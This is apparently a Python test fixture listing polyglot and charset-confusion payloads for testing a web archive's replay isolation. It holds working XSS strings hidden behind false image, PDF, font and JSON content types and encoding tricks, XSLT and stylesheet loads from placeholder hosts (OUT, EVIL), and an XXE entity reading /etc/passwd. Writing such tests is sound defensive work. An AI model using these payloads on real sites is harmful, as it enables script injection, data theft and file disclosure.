"""Documents that are of two types, of another type than is said, or in a charset that is read in two ways: type and bytes as
Latin-1. Words as in ``frames``."""

# ruff: noqa: E501 - a payload is one line

from __future__ import annotations

_PAGE = "<!doctype html><html><body onload=RUN><script>RUN</script><img src=OUT/a onerror=RUN>"


def _wide(text: str, *, little: bool = True) -> str:
    return "".join(f"{sign}\0" if little else f"\0{sign}" for sign in text)


POLYGLOTS = {
    "gif and script": ("image/gif", "GIF89a/*\x01\x00\x00\x00*/=1;RUN//<script>RUN</script>"),
    "gif and html": ("text/html", f"GIF89a{_PAGE}"),
    "pdf and html": ("text/html", f"%PDF-1.7\n{_PAGE}"),
    "html and pdf": ("application/pdf", f"{_PAGE}\n%PDF-1.7\n"),
    "png that is html": ("image/x-png", f"\x89PNG\r\n\x1a\n{_PAGE}"),
    "zip that is html": ("application/zip", f"PK\x03\x04{_PAGE}"),
    "wasm that is html": ("application/wasm", f"\0asm\1\0\0\0{_PAGE}"),
    "font that is html": ("font/woff2", f"wOF2{_PAGE}"),
    "film that is html": ("video/mp4", f"\0\0\0\x18ftypmp42{_PAGE}"),
    "style that is html": ("text/css", f"/*{_PAGE}*/"),
    "text that is html": ("text/plain", _PAGE),
    "rtf that is html": ("text/richtext", _PAGE),
    "json that is html": ("application/json", _PAGE),
    "hal that is html": ("application/hal+json", _PAGE),
    "hta": ("application/hta", _PAGE),
    "component of old": ("text/x-component", f"<public:attach event=ondocumentready onevent=RUN />{_PAGE}"),
    "typed in capitals": ("TEXT/HTML", _PAGE),
    "typed with a space": ("text/html ;charset=utf-8", _PAGE),
    "typed twice": ("image/png, text/html", _PAGE),
    "typed with null": ("text/\0html", _PAGE),
    "typed by a comma": ("text/html,image/svg+xml", _PAGE),
    "xml of a name of its own": ("application/x-own+xml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script><img src='OUT/a' onerror='RUN'/></html>"),
    "wml": ("text/vnd.wap.wml", "<wml xmlns:h='http://www.w3.org/1999/xhtml'><h:script>RUN</h:script></wml>"),
    "xul": ("application/vnd.mozilla.xul+xml", "<window xmlns='http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul' onload='RUN'/>"),
    "xml by external entity": ("application/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'><!ENTITY c SYSTEM 'OUT/a'>]><html xmlns='http://www.w3.org/1999/xhtml'>&b;&c;<script>RUN</script></html>"),
    "transformation by data": ("application/xml", "<?xml-stylesheet type='text/xsl' href='data:text/xsl,<x:stylesheet version=%221.0%22 xmlns:x=%22http://www.w3.org/1999/XSL/Transform%22><x:template match=%22/%22><script xmlns=%22http://www.w3.org/1999/xhtml%22>RUN</script></x:template></x:stylesheet>'?><a/>"),
    "transformation in the replay": ("text/xml", "<?xml-stylesheet type='text/xsl' href='/web/20260301120000im_/EVIL/transform.xml'?><a/>"),
    "style in xml": ("application/xml", "<?xml-stylesheet type='text/css' href='OUT/a'?><?xml-stylesheet type='text/css' href='data:text/css,@import \"OUT/b\";a{background:url(OUT/c)}'?><a>x</a>"),
    "installation": ("application/manifest+json", '{"start_url":"OUT/a","icons":[{"src":"OUT/b"}],"scope":"/","shortcuts":[{"url":"OUT/c"}]}'),
    "speculation rules": ("application/speculationrules+json", '{"prefetch":[{"urls":["OUT/a"]}]}'),
    "utf-16 without a mark": ("text/html", _wide(_PAGE)),
    "utf-16 the other way": ("text/html; charset=utf-16le", _wide(_PAGE, little=False)),
    "utf-16 by mark against its header": ("text/html; charset=iso-8859-1", "\xfe\xff" + _wide(_PAGE, little=False)),
    "utf-32": ("text/html; charset=utf-32", "\xff\xfe\0\0" + "".join(f"{sign}\0\0\0" for sign in _PAGE)),
    "two marks": ("text/html", f"\xef\xbb\xbf\xef\xbb\xbf{_PAGE}"),
    "two marks that disagree": ("text/html", f"\xff\xfe\xef\xbb\xbf{_PAGE}"),
    "iso-2022-kr": ("text/html; charset=iso-2022-kr", "\x1b$)C\x0e<img title='\x0f'><img src=x onerror=RUN>"),
    "iso-2022-jp by meta": ("text/html", "<meta charset=iso-2022-jp><p title='\x1b(J\\'><img src=x onerror=RUN>'>\x1b$@<script>\x1b(BRUN</script>"),
    "shift-jis that eats": ("text/html; charset=shift_jis", "<p title='\x81'><img src=x onerror=RUN title='>"),
    "big5 that eats": ("text/html; charset=big5", "<p title='\xa1'><img src=x onerror=RUN title='>"),
    "euc-jp that eats": ("text/html; charset=euc-jp", "<p title='\x8f'><img src=x onerror=RUN title='>"),
    "gb18030 in four": ("text/html; charset=gb18030", "<p title='\x81\x30\x81'><img src=x onerror=RUN title='>"),
    "x-user-defined": ("text/html; charset=x-user-defined", f"\x80{_PAGE}"),
    "utf-7 by header": ("text/html; charset=utf-7", "+ADw-script+AD4-RUN+ADw-/script+AD4-"),
    "xml in ucs-4": ("application/xhtml+xml", "\0\0\0<" + "".join(f"\0\0\0{sign}" for sign in "html xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script></html>")),
    "charset by declaration": ("application/xhtml+xml", "<?xml version='1.0' encoding='utf-7'?><html xmlns='http://www.w3.org/1999/xhtml'>+ADw-script+AD4-RUN+ADw-/script+AD4-<body onload='RUN'/></html>"),
}  # fmt: skip
